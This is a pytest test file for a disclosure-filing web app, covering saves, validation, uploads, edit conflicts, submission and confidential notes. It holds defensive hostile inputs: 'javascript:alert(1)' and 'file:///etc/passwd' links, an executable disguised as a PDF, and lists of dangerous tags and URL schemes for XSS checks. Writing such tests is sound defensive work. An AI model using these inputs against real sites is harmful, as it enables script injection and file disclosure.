"""Filing over HTTP, as an officer's browser does it: saving answers (plain form posts and the
page's JSON autosave), refusing what cannot be right while keeping the draft, files in and out,
two editors at once, the history, submitting, confidential notes and XSS in narratives.

Every post takes its CSRF token (and the answer's version) from the page the officer loaded, so
the tests go through the same forms a person uses. The database is read in short
``with app.app_context():`` blocks between requests.
"""

from __future__ import annotations

import hashlib
import io
import re
import unicodedata
from collections import Counter
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import sqlalchemy as sa

from tests.support.files import PNG
from tests.support.filing import (
    CYCLE,
    Forms,
    commitment_url,
    csrf_from,
    post_item,
    prefix,
    save_url,
    upload,
    upload_url,
)
from tests.support.http import sign_in
from tests.support.pathological import FAMILIES
from tests.support.review import publish_as_is
from tracker.auth.models import Role, User
from tracker.bidi import without_bidi_controls
from tracker.dates import format_moment
from tracker.db import db, utcnow
from tracker.domain.statuses import Status
from tracker.domain.workflow import DisclosureState
from tracker.filing.models import Attachment, Disclosure, ItemResponse, ResponseRevision

ITEM = "c1.safety-team"  # answered by company A in filing_world: met, version 1
BENCHMARKS = "c2.benchmarks-reported"  # has a multi-select of benchmarks, with "other"
SECRET = "SECRET-NOTE-OF-A"


# --- reading pages as a browser does (the forms: tests/support/filing.py) ------------------


def location(response) -> str:
    """A redirect's target as path#fragment."""
    parts = urlsplit(response.headers["Location"])
    return parts.path + (f"#{parts.fragment}" if parts.fragment else "")


# --- reading the database -----------------------------------------------------------------------


def answers(app, company_id: int) -> dict[str, dict]:
    """Item id -> the stored answer of a company in the test cycle, with its version."""
    with app.app_context():
        rows = db.session.scalars(
            sa.select(ItemResponse).join(Disclosure).where(Disclosure.company_id == company_id)
        )
        return {
            r.item_id: {
                "version": r.version,
                "status": r.status,
                "narrative": r.narrative,
                "not_applicable_reason": r.not_applicable_reason,
                "confidential_note": r.confidential_note,
                "evidence_links": r.evidence_links,
                "structured": r.structured,
            }
            for r in rows
        }


def attachments(app, company_id: int) -> list[tuple[str, str]]:
    """(item id, file name) of the files a company has listed."""
    with app.app_context():
        rows = db.session.execute(
            sa.select(Attachment.item_id, Attachment.filename)
            .join(Disclosure)
            .where(Disclosure.company_id == company_id, Attachment.removed_at.is_(None))
            .order_by(Attachment.id)
        )
        return [(item_id, filename) for item_id, filename in rows]


def stored_files(app) -> list[Path]:
    root = Path(app.config["UPLOAD_DIR"])
    return sorted(p for p in root.rglob("*") if p.is_file())


def set_state(app, disclosure_id: int, state: DisclosureState) -> None:
    """Move a disclosure directly in the database (review and publishing are not filing)."""
    with app.app_context():
        disclosure = db.session.get(Disclosure, disclosure_id)
        disclosure.state = state
        disclosure.published_at = utcnow() if state is DisclosureState.PUBLISHED else None
        db.session.commit()


def signed_in(app, accounts, who: str):
    client = app.test_client()
    assert sign_in(client, accounts.email(who)).status_code == 302
    return client


@pytest.fixture
def officer_a(app, client, accounts, filing_world):
    assert sign_in(client, accounts.email("officer_a")).status_code == 302
    return client


@pytest.fixture
def company_a(accounts) -> int:
    return accounts.ids["company_a"]


# --- saving -------------------------------------------------------------------------------------


def test_a_form_post_saves_and_goes_back_to_the_item(app, officer_a, company_a):
    response = post_item(
        officer_a,
        ITEM,
        {
            "status": "partially_met",
            "narrative": "A **small** team of four.",
            "confidential_note": "Budget is tight.",
            "links-0-url": "https://example.org/team",
            "links-0-title": "Team page",
        },
    )
    assert response.status_code == 302
    assert location(response) == f"/filing/{CYCLE}/c1#{ITEM}"
    saved = answers(app, company_a)[ITEM]
    assert saved["version"] == 2
    assert saved["status"] is Status.PARTIALLY_MET
    assert saved["narrative"] == "A **small** team of four."
    assert saved["confidential_note"] == "Budget is tight."
    assert saved["evidence_links"] == [{"url": "https://example.org/team", "title": "Team page"}]
    page = officer_a.get(response.headers["Location"]).get_data(as_text=True)
    assert "Saved." in page
    assert "<strong>small</strong>" in page  # the preview of the stored narrative


def test_a_json_post_answers_with_the_version_and_the_preview(app, officer_a, company_a):
    response = post_item(
        officer_a, ITEM, {"status": "met", "narrative": "We have *two* teams."}, json=True
    )
    assert response.status_code == 200
    body = response.get_json()
    assert body["saved"] is True
    assert body["version"] == 2
    assert body["preview"] == "<p>We have <em>two</em> teams.</p>"
    assert answers(app, company_a)[ITEM]["narrative"] == "We have *two* teams."


def test_saving_the_same_answer_again_adds_no_version(app, officer_a, company_a):
    fields = {"status": "met", "narrative": "Same words."}
    first = post_item(officer_a, ITEM, fields, json=True).get_json()
    again = post_item(officer_a, ITEM, fields, json=True).get_json()
    assert first["version"] == again["version"] == 2
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(ResponseRevision.id))) == 1


def test_a_first_answer_to_an_item_is_created(app, officer_a, company_a):
    response = post_item(
        officer_a, "c1.accountable-exec", {"status": "met", "narrative": "The CTO."}, json=True
    )
    assert response.status_code == 200
    assert response.get_json()["version"] == 1
    assert answers(app, company_a)["c1.accountable-exec"]["narrative"] == "The CTO."


def test_benchmarks_offered_and_others_are_saved(app, officer_a, company_a):
    response = post_item(
        officer_a,
        BENCHMARKS,
        {
            "status": "met",
            "narrative": "Scores are on our site.",
            "field_benchmarks": ["helm-safety", "caict-ai-safety-benchmark"],
            "other_benchmarks": "Our own suite\n\n  Another one  ",
        },
    )
    assert response.status_code == 302
    assert answers(app, company_a)[BENCHMARKS]["structured"] == {
        "benchmarks": {
            "selected": ["helm-safety", "caict-ai-safety-benchmark"],
            "other": ["Our own suite", "Another one"],
        }
    }


# --- refusing what cannot be right, keeping the draft -------------------------------------------

TYPED = "Typed just before the refusal, kept for the officer."


@dataclass(frozen=True)
class Bad:
    item: str
    fields: dict
    code: int
    message: str
    config: tuple[tuple[str, int], ...] = ()


BAD_INPUTS = {
    "javascript-link": Bad(
        ITEM,
        {"links-0-url": "javascript:alert(1)", "links-0-title": "x"},
        422,
        "Evidence links must be web addresses",
    ),
    "file-link": Bad(
        ITEM,
        {"links-0-url": "file:///etc/passwd", "links-0-title": "x"},
        422,
        "Evidence links must be web addresses",
    ),
    "link-without-host": Bad(
        ITEM, {"links-0-url": "https:/etc/passwd"}, 422, "Evidence links must be web addresses"
    ),
    "too-many-links": Bad(
        ITEM,
        {f"links-{n}-url": f"https://example.org/{n}" for n in range(11)},
        422,
        "at most 10 evidence links",
    ),
    "narrative-too-long": Bad(
        ITEM,
        {"narrative": "x" * 51},
        422,
        "longer than 50 characters",
        (("NARRATIVE_MAX_LENGTH", 50),),
    ),
    "status-not-allowed": Bad(ITEM, {"status": "not_applicable"}, 422, "does not take that status"),
    "bogus-status": Bad(ITEM, {"status": "approved"}, 422, "does not take that status"),
    "option-not-offered": Bad(
        BENCHMARKS,
        {"field_benchmarks": ["helm-safety", "made-up-bench"]},
        422,
        "A choice is not one this item offers",
    ),
}


@pytest.mark.parametrize("as_json", [False, True], ids=["form", "json"])
@pytest.mark.parametrize("case", list(BAD_INPUTS))
def test_a_bad_input_is_refused_and_the_draft_kept(app, officer_a, company_a, case, as_json):
    bad = BAD_INPUTS[case]
    for key, value in bad.config:
        app.config[key] = value
    before = answers(app, company_a)
    fields = {"status": "met", "narrative": TYPED} | bad.fields
    response = post_item(officer_a, bad.item, fields, json=as_json)
    assert response.status_code == bad.code
    assert answers(app, company_a) == before  # nothing written, the stored answer as it was
    if as_json:
        body = response.get_json()
        assert body["saved"] is False
        assert any(bad.message in e for e in body["errors"]), body
        return
    page = response.get_data(as_text=True)
    assert bad.message in page
    # Everything typed is in the form again, ready to be corrected and saved.
    shown = Forms(page).form(save_url(bad.item))
    p = prefix(bad.item)
    assert shown[f"{p}-narrative"] == [fields["narrative"]]
    if "status" not in bad.fields:
        assert shown[f"{p}-status"] == ["met"]
    for name, value in bad.fields.items():
        if name.startswith("links-"):
            assert shown[f"{p}-{name}"] == [value]
    if "field_benchmarks" in bad.fields:
        assert shown[f"{p}-field_benchmarks"] == ["helm-safety"]  # the choice on offer, kept


def test_the_refused_page_saves_once_corrected(app, officer_a, company_a):
    refused = post_item(
        officer_a, ITEM, {"status": "met", "narrative": TYPED, "links-0-url": "javascript:alert(1)"}
    )
    assert refused.status_code == 422
    page = refused.get_data(as_text=True)
    fields = Forms(page).form(save_url(ITEM))
    p = prefix(ITEM)
    fields[f"{p}-links-0-url"] = ["https://example.org/team"]
    response = officer_a.post(save_url(ITEM), data=fields)
    assert response.status_code == 302
    saved = answers(app, company_a)[ITEM]
    assert saved["narrative"] == TYPED
    assert saved["evidence_links"] == [{"url": "https://example.org/team", "title": ""}]


@pytest.mark.parametrize("item_id", ["c1.no-such-item", "c9.safety-team", "c1"])
def test_an_item_that_does_not_exist_is_not_found(app, officer_a, company_a, item_id):
    before = answers(app, company_a)
    response = post_item(
        officer_a, ITEM, {"status": "met", "narrative": "Elsewhere."}, url=save_url(item_id)
    )
    assert response.status_code == 404
    assert answers(app, company_a) == before


def test_a_cycle_that_does_not_exist_is_not_found(app, officer_a, company_a):
    before = answers(app, company_a)
    response = post_item(
        officer_a,
        ITEM,
        {"status": "met", "narrative": "Elsewhere."},
        url=f"/filing/no-such-cycle/items/{ITEM}",
    )
    assert response.status_code == 404
    assert answers(app, company_a) == before


def test_a_tampered_form_only_changes_the_officers_own_company(
    app, officer_a, accounts, filing_world, company_a
):
    company_b = accounts.ids["company_b"]
    with app.app_context():
        b = Disclosure(
            company_id=company_b,
            cycle_id=db.session.scalar(
                sa.select(Disclosure.cycle_id).filter_by(id=filing_world["disclosure_a"])
            ),
            checklist_version_id=db.session.scalar(
                sa.select(Disclosure.checklist_version_id).filter_by(
                    id=filing_world["disclosure_a"]
                )
            ),
            state=DisclosureState.DRAFT,
        )
        db.session.add(b)
        db.session.commit()
        disclosure_b = b.id
    p = prefix(ITEM)
    naming_b = {
        "disclosure_id": str(disclosure_b),
        "company_id": str(company_b),
        "company": "company-b",
        f"{p}-disclosure_id": str(disclosure_b),
        f"{p}-company_id": str(company_b),
        f"{p}-company": "company-b",
    }
    response = post_item(
        officer_a,
        ITEM,
        {"status": "met", "narrative": "Written by A."},
        extra=naming_b,
        url=f"{save_url(ITEM)}?company_id={company_b}&disclosure_id={disclosure_b}",
    )
    assert response.status_code == 302
    assert answers(app, company_b) == {}
    assert answers(app, company_a)[ITEM]["narrative"] == "Written by A."
    with app.app_context():
        assert (
            db.session.scalar(
                sa.select(sa.func.count(Disclosure.id)).filter_by(company_id=company_b)
            )
            == 1
        )


def test_officer_b_saving_the_same_item_writes_to_company_b(app, accounts, filing_world, company_a):
    before = answers(app, company_a)
    officer_b = signed_in(app, accounts, "officer_b")
    response = post_item(officer_b, ITEM, {"status": "not_met", "narrative": "B's own."})
    assert response.status_code == 302
    assert answers(app, accounts.ids["company_b"])[ITEM]["narrative"] == "B's own."
    assert answers(app, company_a) == before


# --- uploads ------------------------------------------------------------------------------------

OTHER_PNG = PNG + b"another picture"  # still a PNG by its signature, with a different hash


def test_a_png_is_attached_and_listed(app, officer_a, company_a):
    before = answers(app, company_a)
    response = upload(officer_a, ITEM, "diagram.png", OTHER_PNG)
    assert response.status_code == 303
    assert location(response) == f"/filing/{CYCLE}/c1#{ITEM}"
    assert attachments(app, company_a) == [(ITEM, "chart.png"), (ITEM, "diagram.png")]
    assert answers(app, company_a) == before
    page = officer_a.get(response.headers["Location"]).get_data(as_text=True)
    sha = hashlib.sha256(OTHER_PNG).hexdigest()
    assert "diagram.png is attached." in page
    assert ">diagram.png</a>" in page
    assert f"PNG, {len(OTHER_PNG)} B, SHA-256" in page
    assert f'<code title="{sha}">{sha[:12]}…</code>' in page
    with app.app_context():
        attachment = db.session.scalar(sa.select(Attachment).filter_by(filename="diagram.png"))
        assert attachment.sha256 == sha
        assert attachment.content_type == "image/png"
        assert attachment.uploaded_by_id is not None


REFUSED_FILES = {
    "program-named-pdf": ("report.pdf", b"MZ" + bytes(2000), "cannot be attached"),
    "html-named-pdf": (
        "report.pdf",
        b"<!doctype html><html><script>alert(1)</script></html>",
        "cannot be attached",
    ),
    "png-named-pdf": ("report.pdf", PNG, "its name does not say"),
    "empty-file": ("report.pdf", b"", "The file is empty"),
}


@pytest.mark.parametrize("case", list(REFUSED_FILES))
def test_a_file_that_is_not_what_its_name_says_is_refused(app, officer_a, company_a, case):
    filename, content, message = REFUSED_FILES[case]
    before = answers(app, company_a), attachments(app, company_a), stored_files(app)
    response = upload(officer_a, ITEM, filename, content)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert message in page
    assert "Your answers are not affected." in page
    assert (answers(app, company_a), attachments(app, company_a), stored_files(app)) == before


def test_a_file_over_the_size_limit_is_refused(app, officer_a, company_a):
    app.config["ATTACHMENT_MAX_SIZE"] = 1000
    before = answers(app, company_a), attachments(app, company_a)
    response = upload(officer_a, ITEM, "big.png", PNG + bytes(2000))
    assert response.status_code == 422
    assert "larger than" in response.get_data(as_text=True)
    assert (answers(app, company_a), attachments(app, company_a)) == before


def test_the_size_refusal_names_a_limit_that_is_not_zero(app, officer_a):
    app.config["ATTACHMENT_MAX_SIZE"] = 300 * 1024
    # (under 500 KB in all: the test client spools larger bodies to a file it never closes)
    response = upload(officer_a, ITEM, "big.png", PNG + bytes(400 * 1024))
    assert response.status_code == 422
    assert "larger than 0 MB" not in response.get_data(as_text=True)


def test_a_request_over_the_content_limit_is_refused(app, officer_a, company_a):
    page = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    app.config["MAX_CONTENT_LENGTH"] = 2000
    before = answers(app, company_a), attachments(app, company_a)
    response = upload(officer_a, ITEM, "big.png", PNG + bytes(5000), page=page)
    assert response.status_code == 413
    assert "larger than the server accepts" in response.get_data(as_text=True)
    assert (answers(app, company_a), attachments(app, company_a)) == before


def test_the_per_item_limit_is_kept(app, officer_a, company_a):
    app.config["ATTACHMENTS_PER_ITEM"] = 1  # A has one file on the item already
    before = answers(app, company_a), attachments(app, company_a)
    response = upload(officer_a, ITEM, "diagram.png", OTHER_PNG)
    assert response.status_code == 422
    assert "the most allowed" in response.get_data(as_text=True)
    assert (answers(app, company_a), attachments(app, company_a)) == before
    # The limit is per item: another item still takes a file.
    assert upload(officer_a, "c1.accountable-exec", "diagram.png", OTHER_PNG).status_code == 303


def test_a_file_refused_by_a_limit_leaves_nothing_in_the_store(app, officer_a):
    app.config["ATTACHMENTS_PER_ITEM"] = 1
    before = stored_files(app)
    assert upload(officer_a, ITEM, "diagram.png", OTHER_PNG).status_code == 422
    assert stored_files(app) == before


def test_the_total_size_limit_is_kept(app, officer_a, company_a):
    app.config["ATTACHMENTS_TOTAL_SIZE"] = len(PNG) + 10  # A's PNG is attached already
    before = answers(app, company_a), attachments(app, company_a)
    response = upload(officer_a, "c1.accountable-exec", "diagram.png", OTHER_PNG)
    assert response.status_code == 422
    assert "would exceed" in response.get_data(as_text=True)
    assert (answers(app, company_a), attachments(app, company_a)) == before


def test_an_upload_without_a_file_goes_back_with_a_message(app, officer_a, company_a):
    page = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    token = Forms(page).form(upload_url(ITEM))["csrf_token"][0]
    before = answers(app, company_a), attachments(app, company_a)
    response = officer_a.post(
        upload_url(ITEM), data={"csrf_token": token}, content_type="multipart/form-data"
    )
    assert response.status_code == 303
    assert location(response) == f"/filing/{CYCLE}/c1#{ITEM}"
    assert "Choose a file to upload." in officer_a.get(location(response)).get_data(as_text=True)
    assert (answers(app, company_a), attachments(app, company_a)) == before


# --- downloads ----------------------------------------------------------------------------------


def download(client, attachment_id: int) -> tuple[int, dict, bytes]:
    """GET a file; the response is closed here (it holds the stored file open)."""
    response = client.get(f"/filing/attachments/{attachment_id}")
    try:
        return response.status_code, dict(response.headers), response.data
    finally:
        response.close()


@pytest.mark.parametrize("who", ["officer_a", "staff"])
def test_a_file_downloads_as_an_attachment(app, accounts, filing_world, who):
    client = signed_in(app, accounts, who)
    status, headers, data = download(client, filing_world["attachment"])
    assert status == 200
    assert data == PNG
    disposition = headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "chart.png" in disposition
    assert headers["Content-Type"] == "image/png"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]
    cache = headers["Cache-Control"]
    assert "private" in cache and "no-store" in cache


def test_a_file_name_is_encoded_in_the_download_header(app, officer_a, filing_world):
    response = upload(officer_a, ITEM, "年度报告; v2.png", OTHER_PNG)
    assert response.status_code == 303
    with app.app_context():
        attachment_id = db.session.scalar(
            sa.select(Attachment.id).where(Attachment.id != filing_world["attachment"])
        )
    status, headers, data = download(officer_a, attachment_id)
    assert status == 200 and data == OTHER_PNG
    assert headers["Content-Disposition"] == (
        "attachment; filename*=UTF-8''%E5%B9%B4%E5%BA%A6%E6%8A%A5%E5%91%8A%3B%20v2.png"
    )


def test_officer_b_cannot_download_company_as_file(app, accounts, filing_world):
    client = signed_in(app, accounts, "officer_b")
    status, _headers, data = download(client, filing_world["attachment"])
    assert status == 404
    assert PNG not in data


def test_a_removed_file_is_not_found(app, officer_a, accounts, filing_world):
    attachment_id = filing_world["attachment"]
    page = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    form = Forms(page).form(f"/filing/{CYCLE}/attachments/{attachment_id}/remove")
    response = officer_a.post(
        f"/filing/{CYCLE}/attachments/{attachment_id}/remove", data={"csrf_token": csrf_from(form)}
    )
    assert response.status_code == 303
    assert download(officer_a, attachment_id)[0] == 404
    staff = signed_in(app, accounts, "staff")
    assert download(staff, attachment_id)[0] == 404
    assert "chart.png" not in officer_a.get(commitment_url(ITEM)).get_data(as_text=True)


def test_a_missing_file_is_not_found(app, accounts, filing_world):
    officer = signed_in(app, accounts, "officer_a")
    assert download(officer, 999999)[0] == 404


# --- two editors at once ------------------------------------------------------------------------


def add_first_revision(app, response_id: int) -> None:
    """The history entry the app writes on a first save; filing_world inserts the answer
    directly, so its version 1 has none."""
    with app.app_context():
        response = db.session.get(ItemResponse, response_id)
        db.session.add(
            ResponseRevision(
                response=response,
                version=1,
                changed_at=response.updated_at,
                changed_by_id=response.updated_by_id,
                before={},
                after={
                    "status": "met",
                    "narrative": response.narrative,
                    "not_applicable_reason": "",
                    "confidential_note": response.confidential_note,
                    "evidence_links": [],
                    "structured": {},
                },
            )
        )
        db.session.commit()


def test_two_editors_conflict_and_the_second_keeps_its_own(app, accounts, filing_world, company_a):
    add_first_revision(app, filing_world["response_a"])
    one, two = signed_in(app, accounts, "officer_a"), signed_in(app, accounts, "officer_a")
    page_one = one.get(commitment_url(ITEM)).get_data(as_text=True)
    page_two = two.get(commitment_url(ITEM)).get_data(as_text=True)
    p = prefix(ITEM)
    assert Forms(page_two).form(save_url(ITEM))[f"{p}-version"] == ["1"]

    first = post_item(
        one, ITEM, {"status": "met", "narrative": "Saved first by tab one."}, page=page_one
    )
    assert first.status_code == 302
    mine = {"status": "partially_met", "narrative": "Typed in tab two meanwhile."}
    conflict = post_item(two, ITEM, mine, page=page_two)
    assert conflict.status_code == 409
    html = conflict.get_data(as_text=True)
    assert "Officer A saved" in html
    assert "<p>Saved first by tab one.</p>" in html  # the saved version, rendered
    conflict_form = Forms(html).form(save_url(ITEM))
    assert conflict_form[f"{p}-narrative"] == ["Typed in tab two meanwhile."]  # mine, kept
    assert conflict_form[f"{p}-version"] == ["2"]
    assert "<del>" in html and "<ins>" in html
    assert answers(app, company_a)[ITEM]["narrative"] == "Saved first by tab one."

    kept = post_item(two, ITEM, mine, page=html)  # "keep mine": the version seen on this page
    assert kept.status_code == 302
    saved = answers(app, company_a)[ITEM]
    assert saved["version"] == 3
    assert saved["narrative"] == "Typed in tab two meanwhile."
    assert saved["status"] is Status.PARTIALLY_MET

    history = two.get(f"{save_url(ITEM)}/history").get_data(as_text=True)
    for n in (1, 2, 3):
        assert f"Version {n} ·" in history


def test_a_json_conflict_names_the_stored_version_and_who_saved_it(
    app, accounts, filing_world, company_a
):
    with app.app_context():
        colleague = User(
            email="colleague@test.example",
            display_name="Colleague of A",
            role=Role.OFFICER,
            company_id=company_a,
            password_hash=db.session.scalar(
                sa.select(User.password_hash).filter_by(email="officer_a@test.example")
            ),
        )
        db.session.add(colleague)
        db.session.commit()
    one = signed_in(app, accounts, "colleague")
    two = signed_in(app, accounts, "officer_a")
    page_one = one.get(commitment_url(ITEM)).get_data(as_text=True)
    page_two = two.get(commitment_url(ITEM)).get_data(as_text=True)
    saved = post_item(
        one,
        ITEM,
        {"status": "met", "narrative": "The colleague's words."},
        page=page_one,
        json=True,
    )
    assert saved.get_json()["version"] == 2
    mine = {"status": "met", "narrative": "My words."}
    conflict = post_item(two, ITEM, mine, page=page_two, json=True)
    assert conflict.status_code == 409
    body = conflict.get_json()
    assert body["saved"] is False and body["conflict"] is True
    assert body["version"] == 2
    assert body["by"] == "Colleague of A"
    assert body["theirs"]["narrative"] == "The colleague's words."
    assert body["theirs"]["status"] == "met"
    assert answers(app, company_a)[ITEM]["narrative"] == "The colleague's words."

    kept = post_item(two, ITEM, mine, page=page_two, version=str(body["version"]), json=True)
    assert kept.status_code == 200
    assert kept.get_json()["version"] == 3
    assert answers(app, company_a)[ITEM]["narrative"] == "My words."


def test_a_version_for_an_unanswered_item_is_a_clear_refusal(app, officer_a, company_a):
    before = answers(app, company_a)
    response = post_item(
        officer_a, "c1.accountable-exec", {"status": "met", "narrative": "x"}, version="7"
    )
    assert response.status_code in (409, 422)
    assert answers(app, company_a) == before


# --- history ------------------------------------------------------------------------------------


class Diff(HTMLParser):
    """The text inside <ins> and <del> of a page."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.ins: list[str] = []
        self.dels: list[str] = []
        self._in: list[str] | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag in ("ins", "del"):
            self._in = self.ins if tag == "ins" else self.dels
            self._in.append("")

    def handle_endtag(self, tag):
        if tag in ("ins", "del"):
            self._in = None

    def handle_data(self, data):
        if self._in is not None:
            self._in[-1] += data


def test_the_history_shows_who_when_and_the_words_changed(app, officer_a, filing_world):
    response = post_item(
        officer_a,
        ITEM,
        {"status": "partially_met", "narrative": "We have a dedicated safety unit."},
    )
    assert response.status_code == 302
    page = officer_a.get(f"{save_url(ITEM)}/history").get_data(as_text=True)
    with app.app_context():
        revision = db.session.scalar(sa.select(ResponseRevision))
        with app.test_request_context():
            when = format_moment(revision.changed_at)
    assert f"Version 2 · {when} · Officer A" in page
    diff = Diff(page)
    assert "team" in diff.dels
    assert any("dedicated safety unit" in text for text in diff.ins)
    assert "Met" in diff.dels and "Partially met" in diff.ins


def test_the_history_of_an_unanswered_item_says_so(officer_a):
    page = officer_a.get(f"{save_url('c1.accountable-exec')}/history").get_data(as_text=True)
    assert "has not been answered yet" in page


# --- submitting ---------------------------------------------------------------------------------


def required_items(app, disclosure_id: int):
    with app.app_context():
        checklist = db.session.get(Disclosure, disclosure_id).checklist_version.checklist
        return [item for item in checklist.items if item.required]


def language_links(page: str) -> list[str]:
    return re.findall(r'href="(/language/[^"]+)"', page)


def test_the_language_switch_on_a_refused_submission_returns_to_the_overview(
    officer_a, filing_world
):
    # The refusal is shown at /submit, an address only a POST reaches: switching language there
    # must bring the officer back to the overview the form was on, not to a 404.
    overview_url = f"/filing/{CYCLE}/"
    overview = officer_a.get(overview_url).get_data(as_text=True)
    submit_token = csrf_from(Forms(overview).form(f"/filing/{CYCLE}/submit"))
    refused = officer_a.post(
        f"/filing/{CYCLE}/submit",
        data={"csrf_token": submit_token},
        headers={"Referer": f"http://localhost{overview_url}"},
    )
    assert refused.status_code == 422
    [switch] = language_links(refused.get_data(as_text=True))
    assert switch == "/language/zh_CN?next=" + overview_url
    followed = officer_a.get(switch.replace("&amp;", "&"), follow_redirects=True)
    assert followed.status_code == 200
    assert followed.request.path == overview_url
    assert '<html lang="zh-CN">' in followed.get_data(as_text=True)


def test_the_language_switch_after_a_post_from_elsewhere_goes_home(officer_a, filing_world):
    overview = officer_a.get(f"/filing/{CYCLE}/").get_data(as_text=True)
    submit_token = csrf_from(Forms(overview).form(f"/filing/{CYCLE}/submit"))
    for referrer in ({"Referer": "https://elsewhere.example/filing/"}, {}):
        refused = officer_a.post(
            f"/filing/{CYCLE}/submit", data={"csrf_token": submit_token}, headers=referrer
        )
        assert refused.status_code == 422
        assert language_links(refused.get_data(as_text=True)) == ["/language/zh_CN?next=/"]


def test_submitting_lists_what_is_missing_then_freezes_the_disclosure(
    app, officer_a, company_a, filing_world
):
    required = required_items(app, filing_world["disclosure_a"])
    missing = [item for item in required if item.id != ITEM]  # ITEM is met with a narrative
    overview = officer_a.get(f"/filing/{CYCLE}/").get_data(as_text=True)
    submit_token = csrf_from(Forms(overview).form(f"/filing/{CYCLE}/submit"))

    refused = officer_a.post(f"/filing/{CYCLE}/submit", data={"csrf_token": submit_token})
    assert refused.status_code == 422
    page = refused.get_data(as_text=True)
    assert f"{len(missing)} items are not ready to submit" in page
    for item in missing:
        assert f'href="/filing/{CYCLE}/{item.commitment_id}#{item.id}"' in page, item.id
    with app.app_context():
        assert (
            db.session.get(Disclosure, filing_world["disclosure_a"]).state is DisclosureState.DRAFT
        )

    for n, item in enumerate(missing):
        fields = (
            {"status": "met", "narrative": f"In place ({item.id})."}
            if n % 3 == 0
            else {"status": "not_disclosed"}
        )
        assert post_item(officer_a, item.id, fields).status_code == 302, item.id
    submitted = officer_a.post(f"/filing/{CYCLE}/submit", data={"csrf_token": submit_token})
    assert submitted.status_code == 303
    assert location(submitted) == f"/filing/{CYCLE}/"
    with app.app_context():
        disclosure = db.session.get(Disclosure, filing_world["disclosure_a"])
        assert disclosure.state is DisclosureState.SUBMITTED
        assert disclosure.submitted_at is not None
    assert "read-only" in officer_a.get(f"/filing/{CYCLE}/").get_data(as_text=True)

    before = answers(app, company_a), attachments(app, company_a)
    page = officer_a.get(commitment_url(ITEM)).get_data(as_text=True)
    assert upload_url(ITEM) not in page  # no upload form on a read-only page
    for as_json in (False, True):
        response = post_item(
            officer_a,
            ITEM,
            {"status": "not_met", "narrative": "Late change."},
            page=page,
            json=as_json,
        )
        assert response.status_code == 409
        assert "cannot be changed now" in response.get_data(as_text=True)
    token = csrf_from(Forms(page).form(save_url(ITEM)))
    response = officer_a.post(
        upload_url(ITEM),
        content_type="multipart/form-data",
        data={"csrf_token": token, "file": (io.BytesIO(OTHER_PNG), "late.png")},
    )
    assert response.status_code == 409
    response = officer_a.post(
        f"/filing/{CYCLE}/attachments/{filing_world['attachment']}/remove",
        data={"csrf_token": token},
    )
    assert response.status_code == 409
    again = officer_a.post(f"/filing/{CYCLE}/submit", data={"csrf_token": submit_token})
    assert again.status_code == 409
    assert (answers(app, company_a), attachments(app, company_a)) == before


# --- confidential notes -------------------------------------------------------------------------


def test_no_one_outside_company_a_sees_its_confidential_note(app, accounts, filing_world):
    officer_b = signed_in(app, accounts, "officer_b")
    pages = [
        "/filing/",
        f"/filing/{CYCLE}/",
        *[f"/filing/{CYCLE}/c{n}" for n in range(1, 7)],
        f"{save_url(ITEM)}/history",
        f"/filing/attachments/{filing_world['attachment']}",
    ]
    for url in pages:
        assert SECRET not in officer_b.get(url).get_data(as_text=True), url
    # B's own draft, and the pages B's saves lead to.
    saved = post_item(officer_b, ITEM, {"status": "met", "narrative": "B's team."})
    assert saved.status_code == 302
    assert SECRET not in officer_b.get(location(saved)).get_data(as_text=True)
    assert SECRET not in officer_b.get(f"{save_url(ITEM)}/history").get_data(as_text=True)

    publish_as_is(app, filing_world["disclosure_a"])
    public = [
        "/",
        "/companies/",
        "/companies/company-a",
        f"/companies/company-a?cycle={CYCLE}",
        "/checklist/",
    ]
    anonymous = app.test_client()
    for url in public:
        for client in (anonymous, officer_b):
            response = client.get(url)
            assert response.status_code == 200, url
            assert SECRET not in response.get_data(as_text=True), url
    # The page is A's published disclosure indeed (so the check above means something).
    assert "We have a team." in anonymous.get("/companies/company-a").get_data(as_text=True)
    # A itself still reads its note in its filing pages.
    officer_a = signed_in(app, accounts, "officer_a")
    assert SECRET in officer_a.get(commitment_url(ITEM)).get_data(as_text=True)


# --- text the database cannot hold --------------------------------------------------------------


def test_a_nul_character_is_never_a_server_error(app, officer_a, company_a):
    before = answers(app, company_a)[ITEM]
    response = post_item(officer_a, ITEM, {"status": "met", "narrative": "a\x00b"}, json=True)
    assert response.status_code in (200, 422)
    if response.status_code == 422:
        assert answers(app, company_a)[ITEM] == before


# --- XSS in narratives --------------------------------------------------------------------------

# The tags the Markdown sanitiser may leave in a narrative, written down here independently of
# the app so that a tag added there has to be argued for here too.
NARRATIVE_TAGS = {
    "p",
    "br",
    "strong",
    "em",
    "b",
    "i",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "del",
    "sup",
    "sub",
}
NARRATIVE_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"align"}, "td": {"align"}}
NEVER = {
    "iframe",
    "object",
    "embed",
    "base",
    "svg",
    "img",
    "style",
    "math",
    "frame",
    "frameset",
    "applet",
    "video",
    "audio",
    "source",
    "track",
    "template",
    "portal",
    "isindex",
    "bgsound",
    "marquee",
    "noscript",
    "xss",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "codebase",
    "cite",
    "ping",
    "srcset",
    "dynsrc",
    "lowsrc",
    "longdesc",
    "manifest",
    "srcdoc",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
VOID = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
    "param",
    "keygen",
}


def url_scheme_text(value: str) -> str:
